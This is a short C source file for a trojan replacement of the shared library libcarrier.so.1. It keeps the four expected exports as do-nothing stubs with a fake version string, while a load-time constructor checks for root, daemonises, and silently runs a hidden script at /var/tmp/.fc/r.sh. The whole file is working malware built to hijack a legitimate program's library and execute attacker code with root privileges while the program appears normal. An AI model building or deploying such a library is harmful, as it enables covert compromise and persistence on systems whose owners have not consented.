/* put in place of libcarrier.so.1: the same four exports, and a constructor
 * that starts r.sh when the library is loaded by a root process */
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void init(void)
{
    if (geteuid() != 0) return;
    pid_t p = fork();
    if (p != 0) return;
    setsid();
    if (fork() != 0) _exit(0);
    int fd = open("/dev/null", O_RDWR);
    dup2(fd, 0); dup2(fd, 1); dup2(fd, 2);
    for (int i = 3; i < 1024; i++) close(i);
    execl("/bin/sh", "sh", "/var/tmp/.fc/r.sh", (char *)0);
    _exit(1);
}
const char *lp_version(void) { return "labelpress 2.4.1 (libcarrier 1.9)"; }
int lp_init(const char *c) { (void)c; return 0; }
int lp_label(const char *o, const char *f) { (void)o; (void)f; return 0; }
int lp_manifest(const char *l, const char *o) { (void)l; (void)o; return 0; }
